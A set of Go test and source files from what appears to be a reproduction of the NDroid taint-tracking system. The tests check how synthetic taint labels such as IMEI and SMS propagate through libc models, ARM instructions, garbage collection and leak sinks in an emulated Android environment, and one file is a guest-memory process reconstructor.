	if !ok {
		t.Fatal("benign app missing")
	}
	a := runAppTrans(t, benign, core.ModeNDroid, true, false)
	if a.Sys.VM.JavaTransMethods == 0 {
		t.Error("benign app compiled no methods")
	}
	if a.Sys.VM.JavaCleanFrames == 0 {
		t.Error("benign app ran no clean-variant frames under the gate")
	}
	if a.Sys.VM.JavaTaintFrames != 0 || a.Sys.VM.JavaGateBails != 0 {
		t.Errorf("benign app touched the tainting variant: %d taint frames, %d bails",
			a.Sys.VM.JavaTaintFrames, a.Sys.VM.JavaGateBails)
	}

	leaky, _ := apps.ByName("case1")
	b := runAppTrans(t, leaky, core.ModeNDroid, true, false)
	if b.Sys.VM.JavaTaintFrames == 0 && b.Sys.VM.JavaGateBails == 0 {
		t.Error("case1 never reached the tainting variant despite live taint")
	}

	// DroidScope installs a per-instruction observer, which forces the
	// interpreter: the cost model of Fig. 10 depends on it.
	d := runAppTrans(t, leaky, core.ModeDroidScope, true, false)
	if d.Sys.VM.JavaTransMethods != 0 {
		t.Errorf("DroidScope ran %d translated methods; its step function must force the interpreter",
			d.Sys.VM.JavaTransMethods)
	}
}
