package core

import (
	"testing"

	"repro/internal/arm"
	"repro/internal/kernel"
	"repro/internal/taint"
)

// sysEnv builds a full system with the NDroid engines installed (no app).
func sysEnv(t *testing.T) *Analyzer {
	t.Helper()
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	return NewAnalyzer(sys, ModeNDroid)
}

// callLibc invokes a libc symbol from "native" context with up to 4 args.
func callLibc(t *testing.T, a *Analyzer, name string, args ...uint32) uint32 {
	t.Helper()
	addr, ok := a.Sys.Libc.Sym(name)
	if !ok {
		t.Fatalf("no symbol %q", name)
	}
	c := a.Sys.CPU
	for i, v := range args {
		c.R[i] = v
	}
	pad := kernel.ReturnPadBase + 0x1000
	c.R[arm.LR] = pad
	c.SetThumbPC(addr)
	if err := c.RunUntil(pad, 1<<22); err != nil {
		t.Fatalf("call %s: %v", name, err)
	}
	return c.R[0]
}

const scratch = 0x0070_0000 // app-data scratch area for tests

func TestModelMemcpyPropagates(t *testing.T) {
	a := sysEnv(t)
	src, dst := uint32(scratch), uint32(scratch+0x100)
	a.Sys.Mem.WriteBytes(src, []byte("secret!!"))
	a.Engine.Mem.SetRange(src, 8, taint.IMEI)
	for i := range a.Sys.CPU.RegTaint {
		a.Sys.CPU.RegTaint[i] = 0
	}
	callLibc(t, a, "memcpy", dst, src, 8)
	if got := a.Engine.Mem.GetRange(dst, 8); got != taint.IMEI {
		t.Errorf("dst taint = %v", got)
	}
	if got := string(a.Sys.Mem.ReadBytes(dst, 8)); got != "secret!!" {
		t.Errorf("dst data = %q", got)
	}
}

// TestModeledVsTracedEquivalence is the E13 ablation's correctness half:
// the memcpy *model* and the instruction-traced memcpy.insn *body* must
// leave identical taint state.
func TestModeledVsTracedEquivalence(t *testing.T) {
	for _, fn := range []string{"memcpy", "memcpy.insn"} {
		a := sysEnv(t)
		// The tracer must cover libc for the .insn variant.
		a.Tracer.InRange = nil
		src, dst := uint32(scratch), uint32(scratch+0x100)
		a.Sys.Mem.WriteBytes(src, []byte("abcdefgh"))
		a.Engine.Mem.SetRange(src+2, 3, taint.SMS) // partial taint
		callLibc(t, a, fn, dst, src, 8)
		for i := uint32(0); i < 8; i++ {
			want := taint.Clear
			if i >= 2 && i < 5 {
				want = taint.SMS
			}
			if got := a.Engine.Mem.Get(dst + i); got != want {
				t.Errorf("%s: byte %d taint = %v, want %v", fn, i, got, want)
			}
		}
	}
}

func TestModelStrcpyAndStrlen(t *testing.T) {
	a := sysEnv(t)
	src, dst := uint32(scratch), uint32(scratch+0x100)
	a.Sys.Mem.WriteCString(src, "imei-data")
	a.Engine.Mem.SetRange(src, 10, taint.IMEI)
	callLibc(t, a, "strcpy", dst, src)
	if got := a.Engine.Mem.GetRange(dst, 10); got != taint.IMEI {
		t.Errorf("strcpy taint = %v", got)
	}
	callLibc(t, a, "strlen", dst)
	if a.Sys.CPU.RegTaint[0] != taint.IMEI {
		t.Errorf("strlen ret taint = %v", a.Sys.CPU.RegTaint[0])
	}
}

func TestModelSprintfString(t *testing.T) {
	a := sysEnv(t)
	buf, format, arg := uint32(scratch), uint32(scratch+0x100), uint32(scratch+0x200)
	a.Sys.Mem.WriteCString(format, "sid=%s")
	a.Sys.Mem.WriteCString(arg, "SECRET")
	a.Engine.Mem.SetRange(arg, 7, taint.SMS)
	callLibc(t, a, "sprintf", buf, format, arg)
	if got := a.Sys.Mem.ReadCString(buf, 0); got != "sid=SECRET" {
		t.Errorf("sprintf = %q", got)
	}
	if got := a.Engine.Mem.GetRange(buf, 11); got != taint.SMS {
		t.Errorf("sprintf taint = %v", got)
	}
}

func TestModelSprintfIntFromShadowReg(t *testing.T) {
	a := sysEnv(t)
	buf, format := uint32(scratch), uint32(scratch+0x100)
	a.Sys.Mem.WriteCString(format, "v=%d")
	c := a.Sys.CPU
	c.RegTaint[2] = taint.Contacts // the %d argument register
	callLibc(t, a, "sprintf", buf, format, 12345)
	if got := a.Engine.Mem.GetRange(buf, 8); got != taint.Contacts {
		t.Errorf("sprintf %%d taint = %v", got)
	}
}

func TestModelAtoiTaintsReturn(t *testing.T) {
	a := sysEnv(t)
	s := uint32(scratch)
	a.Sys.Mem.WriteCString(s, "451")
	a.Engine.Mem.SetRange(s, 4, taint.PhoneNumber)
	if got := callLibc(t, a, "atoi", s); got != 451 {
		t.Errorf("atoi = %d", got)
	}
	if a.Sys.CPU.RegTaint[0] != taint.PhoneNumber {
		t.Errorf("atoi ret taint = %v", a.Sys.CPU.RegTaint[0])
	}
}

func TestModelMallocClearsStaleTaint(t *testing.T) {
	a := sysEnv(t)
	p := callLibc(t, a, "malloc", 32)
	if p == 0 {
		t.Fatal("malloc NULL")
	}
	a.Engine.Mem.SetRange(p, 32, taint.IMEI)
	callLibc(t, a, "free", p)
	q := callLibc(t, a, "malloc", 32)
	if q != p {
		t.Fatalf("allocator should reuse: %#x vs %#x", p, q)
	}
	if got := a.Engine.Mem.GetRange(q, 32); got != 0 {
		t.Errorf("recycled block carries stale taint %v", got)
	}
}

func TestModelReallocCarriesTaint(t *testing.T) {
	a := sysEnv(t)
	p := callLibc(t, a, "malloc", 8)
	a.Sys.Mem.WriteBytes(p, []byte("12345678"))
	a.Engine.Mem.SetRange(p, 8, taint.SMS)
	q := callLibc(t, a, "realloc", p, 64)
	if q == 0 {
		t.Fatal("realloc NULL")
	}
	if got := a.Engine.Mem.GetRange(q, 8); got != taint.SMS {
		t.Errorf("realloc taint = %v", got)
	}
}

func TestSinkWriteReports(t *testing.T) {
	a := sysEnv(t)
	buf := uint32(scratch)
	a.Sys.Mem.WriteBytes(buf, []byte("leakme"))
	a.Engine.Mem.SetRange(buf, 6, taint.IMEI)
	// write(1, buf, 6) — fd 1 is the task stdout.
	callLibc(t, a, "write", 1, buf, 6)
	leaks := a.LeaksAt("write")
	if len(leaks) != 1 {
		t.Fatalf("leaks = %v", a.Leaks)
	}
	if string(leaks[0].Data) != "leakme" || !leaks[0].Tag.Has(taint.IMEI) {
		t.Errorf("leak = %+v", leaks[0])
	}
}

func TestSinkCleanTrafficSilent(t *testing.T) {
	a := sysEnv(t)
	buf := uint32(scratch)
	a.Sys.Mem.WriteBytes(buf, []byte("benign"))
	callLibc(t, a, "write", 1, buf, 6)
	if len(a.Leaks) != 0 {
		t.Errorf("clean write reported: %v", a.Leaks)
	}
}

func TestSinkFputsFputc(t *testing.T) {
	a := sysEnv(t)
	path, mode, s := uint32(scratch), uint32(scratch+0x40), uint32(scratch+0x80)
	a.Sys.Mem.WriteCString(path, "/sdcard/out")
	a.Sys.Mem.WriteCString(mode, "w")
	a.Sys.Mem.WriteCString(s, "tainted-line")
	a.Engine.Mem.SetRange(s, 12, taint.Contacts)
	fp := callLibc(t, a, "fopen", path, mode)
	callLibc(t, a, "fputs", s, fp)
	a.Sys.CPU.RegTaint[0] = taint.Contacts
	callLibc(t, a, "fputc", 'X', fp)
	callLibc(t, a, "fclose", fp)
	if len(a.LeaksAt("fputs")) != 1 {
		t.Errorf("fputs leaks = %v", a.Leaks)
	}
	if len(a.LeaksAt("fputc")) != 1 {
		t.Errorf("fputc leaks = %v", a.Leaks)
	}
	if got, _ := a.Sys.Kern.FS.ReadFile("/sdcard/out"); string(got) != "tainted-lineX" {
		t.Errorf("file = %q", got)
	}
}

func TestLibmModelPropagates(t *testing.T) {
	a := sysEnv(t)
	c := a.Sys.CPU
	// sqrt(16.0): double in R0/R1 with tainted low word.
	c.RegTaint[1] = taint.Location
	callLibc(t, a, "sqrt", 0, 0x40300000)
	if c.R[1] != 0x40100000 { // 4.0 high word
		t.Errorf("sqrt result hi = %#x", c.R[1])
	}
	if c.RegTaint[0] != taint.Location || c.RegTaint[1] != taint.Location {
		t.Errorf("sqrt ret taints = %v %v", c.RegTaint[0], c.RegTaint[1])
	}
}

func TestStrchrPointerTaint(t *testing.T) {
	a := sysEnv(t)
	s := uint32(scratch)
	a.Sys.Mem.WriteCString(s, "a=b")
	a.Engine.Mem.SetRange(s, 4, taint.SMS)
	p := callLibc(t, a, "strchr", s, '=')
	if p != s+1 {
		t.Fatalf("strchr = %#x, want %#x", p, s+1)
	}
	if a.Sys.CPU.RegTaint[0] != taint.SMS {
		t.Errorf("strchr ret taint = %v", a.Sys.CPU.RegTaint[0])
	}
}

// TestEveryTable6FunctionHasModel: each libc row of Table VI is either
// modeled or libm-modeled under NDroid.
func TestEveryTable6FunctionHasModel(t *testing.T) {
	table6libc := []string{
		"memcpy", "free", "malloc", "memset", "strlen", "strcmp", "realloc",
		"strcpy", "memcmp", "strncmp", "memmove", "sprintf", "strncpy",
		"fprintf", "strchr", "snprintf", "calloc", "strstr", "atoi",
		"strrchr", "memchr", "strcat", "sscanf", "vsnprintf", "strcasecmp",
		"strdup", "strncasecmp", "strtoul", "sysconf", "vsprintf", "vfprintf",
		"atol",
	}
	for _, name := range table6libc {
		if _, ok := sysModels[name]; !ok {
			t.Errorf("Table VI libc function %q has no model", name)
		}
	}
	table6libm := []string{
		"sin", "pow", "cos", "sqrt", "floor", "log", "strtod", "strtol",
		"exp", "atan2", "sinf", "ceil", "cosf", "sqrtf", "tan", "acos",
		"log10", "atan", "asin", "ldexp", "sinh", "cosh", "fmod", "powf",
		"atan2f", "expf",
	}
	for _, name := range table6libm {
		_, inModels := sysModels[name]
		_, inLibm := libmSigs[name]
		if !inModels && !inLibm {
			t.Errorf("Table VI libm function %q has no model", name)
		}
	}
}

// TestEveryTable7CallHooked: every Table VII standard call resolves to a
// symbol and carries either a sink or trust-call hook.
func TestEveryTable7CallHooked(t *testing.T) {
	a := sysEnv(t)
	table7 := []string{
		"fwrite", "fclose", "fopen", "fread", "close", "write", "fputc",
		"read", "fputs", "open", "fcntl", "fstat", "munmap", "mmap",
		"dlopen", "stat", "fgets", "socket", "connect", "send", "dlsym",
		"bind", "dlclose", "ioctl", "listen", "mkdir", "accept", "select",
		"getc", "rename", "sendto", "recvfrom", "fdopen", "mprotect",
		"remove", "kill", "fork", "execve", "chown", "ptrace", "sysconf",
	}
	for _, name := range table7 {
		if _, ok := a.Sys.Libc.Sym(name); !ok {
			t.Errorf("Table VII call %q has no symbol", name)
		}
		if _, ok := sysModels[name]; !ok {
			t.Errorf("Table VII call %q has no hook", name)
		}
	}
}
