package core

import (
	"testing"

	"repro/internal/arm"
	"repro/internal/mem"
	"repro/internal/taint"
)

// traceEnv builds a CPU with the NDroid tracer attached (no DVM), for
// exercising Table V rules directly on assembled code.
type traceEnv struct {
	cpu *arm.CPU
	m   *mem.Memory
	eng *TaintEngine
	tr  *Tracer
}

func newTraceEnv(t *testing.T) *traceEnv {
	t.Helper()
	m := mem.New()
	cpu := arm.New(m)
	cpu.R[arm.SP] = 0x90000
	cpu.UseDecodeCache = true
	eng := NewTaintEngine(cpu)
	tr := NewTracer(eng)
	cpu.Tracer = tr
	return &traceEnv{cpu: cpu, m: m, eng: eng, tr: tr}
}

// run assembles src at 0x8000 and executes until HLT.
func (e *traceEnv) run(t *testing.T, src string, thumb bool) {
	t.Helper()
	prog, err := arm.Assemble(src, 0x8000, nil)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	e.m.WriteBytes(prog.Base, prog.Code)
	entry := prog.Base
	if thumb {
		entry |= 1
	}
	e.cpu.SetThumbPC(entry)
	if err := e.cpu.Run(1 << 16); err != nil {
		t.Fatalf("run: %v", err)
	}
	if !e.cpu.Halted && !thumb {
		t.Fatal("did not halt")
	}
}

// TestTable5BinaryOps: binary-op Rd, Rn, Rm → t(Rd) = t(Rn) OR t(Rm).
func TestTable5BinaryOps(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[1] = taint.IMEI
	e.cpu.RegTaint[2] = taint.SMS
	e.run(t, `
	ADD R0, R1, R2
	HLT
`, false)
	if e.cpu.RegTaint[0] != taint.IMEI|taint.SMS {
		t.Errorf("t(Rd) = %v, want IMEI|SMS", e.cpu.RegTaint[0])
	}
}

// TestTable5TwoOperandForm: binary-op Rd, Rm → t(Rd) = t(Rd) OR t(Rm).
func TestTable5TwoOperandForm(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[0] = taint.IMEI
	e.cpu.RegTaint[1] = taint.SMS
	e.run(t, `
	ADD R0, R1      ; accumulate form: Rd = Rd + Rm
	HLT
`, false)
	if e.cpu.RegTaint[0] != taint.IMEI|taint.SMS {
		t.Errorf("t(Rd) = %v, want IMEI|SMS (accumulate)", e.cpu.RegTaint[0])
	}
}

// TestTable5ImmForm: binary-op Rd, Rm, #imm → t(Rd) = t(Rm).
func TestTable5ImmForm(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[1] = taint.Contacts
	e.cpu.RegTaint[0] = taint.SMS // must be overwritten, not ORed
	e.run(t, `
	ADD R0, R1, #4
	HLT
`, false)
	if e.cpu.RegTaint[0] != taint.Contacts {
		t.Errorf("t(Rd) = %v, want Contacts only", e.cpu.RegTaint[0])
	}
}

// TestTable5Unary: unary Rd, Rm → t(Rd) = t(Rm).
func TestTable5Unary(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[3] = taint.IMSI
	e.run(t, `
	MVN R0, R3
	HLT
`, false)
	if e.cpu.RegTaint[0] != taint.IMSI {
		t.Errorf("t(Rd) = %v, want IMSI", e.cpu.RegTaint[0])
	}
}

// TestTable5MovImmClears: mov Rd, #imm → TAINT_CLEAR.
func TestTable5MovImmClears(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[0] = taint.IMEI
	e.run(t, `
	MOV R0, #5
	HLT
`, false)
	if e.cpu.RegTaint[0] != 0 {
		t.Errorf("t(Rd) = %v, want clear", e.cpu.RegTaint[0])
	}
}

// TestTable5MovReg: mov Rd, Rm → t(Rd) = t(Rm).
func TestTable5MovReg(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[7] = taint.Location
	e.run(t, `
	MOV R0, R7
	HLT
`, false)
	if e.cpu.RegTaint[0] != taint.Location {
		t.Errorf("t(Rd) = %v", e.cpu.RegTaint[0])
	}
}

// TestTable5LoadAddressTaint: LDR propagates both the memory taint and the
// base-register taint ("if the tainted input is the address of an untainted
// value, the taint will be propagated").
func TestTable5LoadAddressTaint(t *testing.T) {
	e := newTraceEnv(t)
	e.m.Write32(0x20000, 42)
	e.eng.Mem.Set32(0x20000, taint.SMS)
	e.cpu.R[1] = 0x20000
	e.cpu.RegTaint[1] = taint.IMEI // tainted pointer
	e.run(t, `
	LDR R0, [R1]
	HLT
`, false)
	if e.cpu.RegTaint[0] != taint.SMS|taint.IMEI {
		t.Errorf("t(Rd) = %v, want SMS|IMEI (mem OR base)", e.cpu.RegTaint[0])
	}
}

// TestTable5Store: STR → t(M[addr]) = t(Rd), overwriting.
func TestTable5Store(t *testing.T) {
	e := newTraceEnv(t)
	e.eng.Mem.Set32(0x20000, taint.SMS) // stale taint to be overwritten
	e.cpu.R[0] = 7
	e.cpu.RegTaint[0] = taint.IMEI
	e.cpu.R[1] = 0x20000
	e.run(t, `
	STR R0, [R1]
	HLT
`, false)
	if got := e.eng.Mem.Get32(0x20000); got != taint.IMEI {
		t.Errorf("t(M) = %v, want IMEI (set, not OR)", got)
	}
}

// TestTable5StoreByteWidth: STRB taints exactly one byte.
func TestTable5StoreByteWidth(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.R[0] = 0xff
	e.cpu.RegTaint[0] = taint.IMEI
	e.cpu.R[1] = 0x20000
	e.run(t, `
	STRB R0, [R1, #1]
	HLT
`, false)
	if e.eng.Mem.Get(0x20001) != taint.IMEI {
		t.Error("target byte untainted")
	}
	if e.eng.Mem.Get(0x20000) != 0 || e.eng.Mem.Get(0x20002) != 0 {
		t.Error("neighbouring bytes must stay clean")
	}
}

// TestTable5PushPop: STM(PUSH) writes per-register taints; LDM(POP) restores
// them ORed with the base register taint.
func TestTable5PushPop(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[4] = taint.IMEI
	e.cpu.RegTaint[5] = taint.SMS
	e.run(t, `
	PUSH {R4, R5}
	MOV R4, #0
	MOV R5, #0
	POP {R4, R5}
	HLT
`, false)
	if e.cpu.RegTaint[4] != taint.IMEI || e.cpu.RegTaint[5] != taint.SMS {
		t.Errorf("taints after pop: R4=%v R5=%v", e.cpu.RegTaint[4], e.cpu.RegTaint[5])
	}
}

// TestTable5CompareNoEffect: CMP/TST have no taint effect.
func TestTable5CompareNoEffect(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[0] = taint.IMEI
	e.cpu.RegTaint[1] = taint.SMS
	e.run(t, `
	CMP R0, R1
	TST R0, #1
	HLT
`, false)
	if e.cpu.RegTaint[0] != taint.IMEI || e.cpu.RegTaint[1] != taint.SMS {
		t.Error("compares must not move taint")
	}
}

// TestTable5FloatOps: VFP-style ops follow the binary rule.
func TestTable5FloatOps(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[1] = taint.Location
	e.run(t, `
	MOV R0, #2
	SITOF R2, R0
	FADDS R3, R2, R1
	HLT
`, false)
	if e.cpu.RegTaint[3] != taint.Location {
		t.Errorf("t(FADDS dst) = %v", e.cpu.RegTaint[3])
	}
}

// TestTable5ThumbSharesRules: the same flow in Thumb code propagates
// identically (the paper handles 55 Thumb instructions with the same logic).
func TestTable5ThumbSharesRules(t *testing.T) {
	e := newTraceEnv(t)
	e.cpu.RegTaint[1] = taint.IMEI
	e.cpu.RegTaint[2] = taint.SMS
	prog := arm.MustAssemble(`
	.thumb
	ADD R0, R1, R2
	MOV R3, R0
	MOV R4, #9
	BX LR
`, 0x8000, nil)
	e.m.WriteBytes(prog.Base, prog.Code)
	e.cpu.R[arm.LR] = 0x9000
	e.cpu.SetThumbPC(0x8001)
	if err := e.cpu.RunUntil(0x9000, 1000); err != nil {
		t.Fatal(err)
	}
	if e.cpu.RegTaint[0] != taint.IMEI|taint.SMS {
		t.Errorf("thumb ADD taint = %v", e.cpu.RegTaint[0])
	}
	if e.cpu.RegTaint[3] != taint.IMEI|taint.SMS {
		t.Errorf("thumb MOV taint = %v", e.cpu.RegTaint[3])
	}
	if e.cpu.RegTaint[4] != 0 {
		t.Errorf("thumb MOV #imm taint = %v, want clear", e.cpu.RegTaint[4])
	}
}

// TestTracerRangeGating: instructions outside InRange are skipped.
func TestTracerRangeGating(t *testing.T) {
	e := newTraceEnv(t)
	e.tr.InRange = func(addr uint32) bool { return false }
	e.cpu.RegTaint[1] = taint.IMEI
	e.run(t, `
	MOV R0, R1
	HLT
`, false)
	if e.tr.Traced != 0 || e.tr.Skipped == 0 {
		t.Errorf("traced=%d skipped=%d", e.tr.Traced, e.tr.Skipped)
	}
	if e.cpu.RegTaint[0] != 0 {
		t.Error("skipped instruction must not propagate")
	}
}

// TestTracerHandlerCacheEquivalence: cached and uncached dispatch produce
// identical taint results (the E17 ablation's correctness side).
func TestTracerHandlerCacheEquivalence(t *testing.T) {
	src := `
	MOV R3, #0
loop:
	ADD R0, R0, R1
	EOR R0, R0, R2
	ADD R3, R3, #1
	CMP R3, #20
	BNE loop
	HLT
`
	results := make([]taint.Tag, 2)
	for i, useCache := range []bool{true, false} {
		e := newTraceEnv(t)
		e.tr.UseHandlerCache = useCache
		e.cpu.RegTaint[1] = taint.IMEI
		e.cpu.RegTaint[2] = taint.SMS
		e.run(t, src, false)
		results[i] = e.cpu.RegTaint[0]
	}
	if results[0] != results[1] {
		t.Errorf("cache changes semantics: %v vs %v", results[0], results[1])
	}
	if results[0] != taint.IMEI|taint.SMS {
		t.Errorf("loop taint = %v", results[0])
	}
}

// TestTracerPerOpStats: the Table V bench surface counts per operation.
func TestTracerPerOpStats(t *testing.T) {
	e := newTraceEnv(t)
	e.run(t, `
	MOV R0, #1
	ADD R1, R0, R0
	ADD R2, R1, R0
	HLT
`, false)
	if e.tr.PerOp[arm.OpADD] != 2 {
		t.Errorf("ADD count = %d, want 2", e.tr.PerOp[arm.OpADD])
	}
	if e.tr.PerOp[arm.OpMOV] != 1 {
		t.Errorf("MOV count = %d, want 1", e.tr.PerOp[arm.OpMOV])
	}
}

// TestBlockEngineTracerEquivalence: the block engine pre-binds Table V
// handlers at translation time (BindInsn); the interpreter resolves them
// dynamically per instruction. Both paths must produce byte-identical taint
// state and identical tracer statistics, with and without a trace range.
func TestBlockEngineTracerEquivalence(t *testing.T) {
	const src = `
_start:
	MOV R2, #50
loop:
	ADD R0, R0, R1
	ADD R0, R0, #3
	MOV R3, R0
	MVN R4, R3
	STR R0, [SP, #-8]
	LDR R5, [SP, #-8]
	PUSH {R4, R5}
	POP {R4, R5}
	SUB R2, R2, #1
	CMP R2, #0
	BNE loop
	HLT
`
	type snapshot struct {
		regTaint [16]taint.Tag
		traced   uint64
		skipped  uint64
		perOp    [64]uint64
		tainted  int
		slot     taint.Tag
		insns    uint64
	}
	run := func(block bool, inRange func(uint32) bool) snapshot {
		e := newTraceEnv(t)
		e.cpu.UseBlockCache = block
		e.tr.InRange = inRange
		e.cpu.RegTaint[1] = taint.IMEI
		e.run(t, src, false)
		return snapshot{
			regTaint: e.cpu.RegTaint,
			traced:   e.tr.Traced,
			skipped:  e.tr.Skipped,
			perOp:    e.tr.PerOp,
			tainted:  e.eng.Mem.TaintedBytes(),
			slot:     e.eng.Mem.Get32(0x90000 - 8),
			insns:    e.cpu.InsnCount,
		}
	}
	ranges := map[string]func(uint32) bool{
		"whole":      nil,
		"restricted": func(addr uint32) bool { return addr < 0x8014 }, // first half of the loop body
	}
	for name, inRange := range ranges {
		t.Run(name, func(t *testing.T) {
			interp := run(false, inRange)
			block := run(true, inRange)
			if interp != block {
				t.Errorf("tracer state diverges:\ninterp %+v\nblock  %+v", interp, block)
			}
			if block.slot == taint.Clear && name == "whole" {
				t.Error("stack slot should be tainted through STR")
			}
		})
	}
}
