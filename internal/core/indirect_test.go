package core

import (
	"testing"

	"repro/internal/taint"
)

// TestRefShadowSurvivesGC is E16: taint keyed by an indirect reference keeps
// resolving after the collector moves the object, while taint keyed only by
// the direct address would be left behind at the stale location (the §II-A
// hazard indirect references exist to solve).
func TestRefShadowSurvivesGC(t *testing.T) {
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	a := NewAnalyzer(sys, ModeNDroid)
	vm := sys.VM

	// Garbage to force compaction movement.
	for i := 0; i < 16; i++ {
		vm.NewString("garbage")
	}
	obj := vm.NewString("sensitive")
	ref := vm.AddGlobalRef(obj)
	oldAddr := obj.Addr

	// NDroid records the taint under both keys, as the DVM Hook Engine does.
	a.Engine.Mem.Set32(obj.Addr, taint.IMEI)
	a.Engine.AddRefTaint(ref, taint.IMEI)

	if moved := vm.RunGC(); moved == 0 {
		t.Fatal("GC moved nothing")
	}
	if obj.Addr == oldAddr {
		t.Fatal("object did not move")
	}

	// The ref-keyed shadow still answers.
	if got := a.Engine.RefTaint(ref); got != taint.IMEI {
		t.Errorf("ref shadow lost: %v", got)
	}
	// The engine's GC subscription migrated the direct-address entry too.
	if got := a.Engine.Mem.Get32(obj.Addr); got != taint.IMEI {
		t.Errorf("direct-address taint not migrated: %v", got)
	}
	if got := a.Engine.Mem.Get32(oldAddr); got != 0 {
		t.Errorf("stale taint left at old address: %v", got)
	}
	// ObjectTaint unifies all views.
	if got := a.Engine.ObjectTaint(obj, ref); !got.Has(taint.IMEI) {
		t.Errorf("ObjectTaint = %v", got)
	}
}

// TestDecodeRefHandlesDirectPointers: §II-A requires handling both indirect
// references and (pre-ICS) direct pointers.
func TestDecodeRefHandlesDirectPointers(t *testing.T) {
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	vm := sys.VM
	o := vm.NewString("x")
	if vm.DecodeRef(o.Addr) != o {
		t.Error("direct pointer must decode")
	}
	ref := vm.AddLocalRef(o)
	if vm.DecodeRef(ref) != o {
		t.Error("indirect reference must decode")
	}
	if !vm.IsIndirectRef(ref) || vm.IsIndirectRef(o.Addr) {
		t.Error("IsIndirectRef misclassifies")
	}
}

// TestEngineResetClearsState: analyzer reuse between runs starts clean.
func TestEngineResetClearsState(t *testing.T) {
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	a := NewAnalyzer(sys, ModeNDroid)
	a.Engine.Mem.Set32(0x1000, taint.IMEI)
	a.Engine.AddRefTaint(0xa0000001, taint.SMS)
	sys.CPU.RegTaint[3] = taint.Contacts
	a.Engine.Reset()
	if a.Engine.Mem.TaintedBytes() != 0 {
		t.Error("memory taint not cleared")
	}
	if a.Engine.RefTaint(0xa0000001) != 0 {
		t.Error("ref taint not cleared")
	}
	if sys.CPU.RegTaint[3] != 0 {
		t.Error("shadow registers not cleared")
	}
}

// TestSourcePolicyFields: the SourcePolicy structure captures the Listing 1
// fields from a JNI-entry context.
func TestSourcePolicyFields(t *testing.T) {
	p := &SourcePolicy{
		MethodAddress:   0x4a2c7d88,
		TR0:             0,
		TR1:             0,
		TR2:             taint.Contacts,
		TR3:             taint.Contacts,
		StackArgsNum:    1,
		StackArgsTaints: []taint.Tag{taint.Contacts},
		MethodShorty:    "ZLLL",
		AccessFlags:     0x9,
	}
	pm := NewPolicyMap()
	pm.Put(p)
	if pm.Len() != 1 {
		t.Fatal("policy not stored")
	}
	got, ok := pm.Take(0x4a2c7d88)
	if !ok || got != p {
		t.Fatal("policy not retrievable by method address")
	}
	if pm.Len() != 0 || pm.Applied != 1 {
		t.Error("policy not consumed")
	}
	if _, ok := pm.Take(0x4a2c7d88); ok {
		t.Error("double-take must fail")
	}
}
