package core

import (
	"fmt"
	"strings"

	"repro/internal/mem"
)

// Reconstructor is the OS-level view reconstructor (§V-F): it recovers the
// process list and per-process memory maps by parsing raw guest memory,
// starting only from the address of the initial task structure — the same
// virtual-machine-introspection posture DroidScope takes. NDroid uses the
// result to locate library base addresses for hook placement (§V-G) and to
// answer the multilevel-hooking "is this address third-party native code?"
// membership test.
type Reconstructor struct {
	Mem          *mem.Memory
	InitTaskAddr uint32
}

// VMITask is one process recovered from guest memory.
type VMITask struct {
	PID  uint32
	Comm string
	VMAs []VMIMapping
}

// VMIMapping is one memory mapping recovered from guest memory.
type VMIMapping struct {
	Start uint32
	End   uint32
	Perms string
	Name  string
}

// Contains reports whether addr falls inside the mapping.
func (v VMIMapping) Contains(addr uint32) bool {
	return addr >= v.Start && addr < v.End
}

// Tasks walks the guest task list. Layout (see internal/kernel):
//
//	task: +0 pid  +4 next  +8 mm  +12 comm[16]
//	mm:   +0 first_vma
//	vma:  +0 start +4 end +8 flags +12 next +16 name_ptr
func (r *Reconstructor) Tasks() ([]VMITask, error) {
	var out []VMITask
	addr := r.InitTaskAddr
	for i := 0; addr != 0; i++ {
		if i > 4096 {
			return nil, fmt.Errorf("core: task list does not terminate")
		}
		t := VMITask{
			PID:  r.Mem.Read32(addr),
			Comm: r.Mem.ReadCString(addr+12, 16),
		}
		mm := r.Mem.Read32(addr + 8)
		if mm != 0 {
			vma := r.Mem.Read32(mm)
			for j := 0; vma != 0; j++ {
				if j > 65536 {
					return nil, fmt.Errorf("core: vma list does not terminate")
				}
				flags := r.Mem.Read32(vma + 8)
				t.VMAs = append(t.VMAs, VMIMapping{
					Start: r.Mem.Read32(vma),
					End:   r.Mem.Read32(vma + 4),
					Perms: decodePerms(flags),
					Name:  r.Mem.ReadCString(r.Mem.Read32(vma+16), 64),
				})
				vma = r.Mem.Read32(vma + 12)
			}
		}
		out = append(out, t)
		addr = r.Mem.Read32(addr + 4)
	}
	return out, nil
}

func decodePerms(flags uint32) string {
	perms := []byte{'-', '-', '-'}
	if flags&1 != 0 {
		perms[0] = 'r'
	}
	if flags&2 != 0 {
		perms[1] = 'w'
	}
	if flags&4 != 0 {
		perms[2] = 'x'
	}
	return string(perms)
}

// FindTask locates a process by name.
func (r *Reconstructor) FindTask(comm string) (VMITask, bool) {
	tasks, err := r.Tasks()
	if err != nil {
		return VMITask{}, false
	}
	for _, t := range tasks {
		if t.Comm == comm {
			return t, true
		}
	}
	return VMITask{}, false
}

// ModuleAt resolves an address to the mapping containing it within a task.
func (t VMITask) ModuleAt(addr uint32) (VMIMapping, bool) {
	for _, v := range t.VMAs {
		if v.Contains(addr) {
			return v, true
		}
	}
	return VMIMapping{}, false
}

// ModuleBase returns the base address of the first mapping whose name
// contains the given substring (how NDroid finds libdvm.so, libc.so, and the
// app's own libraries, §V-G).
func (t VMITask) ModuleBase(nameContains string) (uint32, bool) {
	for _, v := range t.VMAs {
		if strings.Contains(v.Name, nameContains) {
			return v.Start, true
		}
	}
	return 0, false
}
