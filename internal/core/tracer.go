package core

import (
	"repro/internal/arm"
	"repro/internal/fault"
	"repro/internal/taint"
)

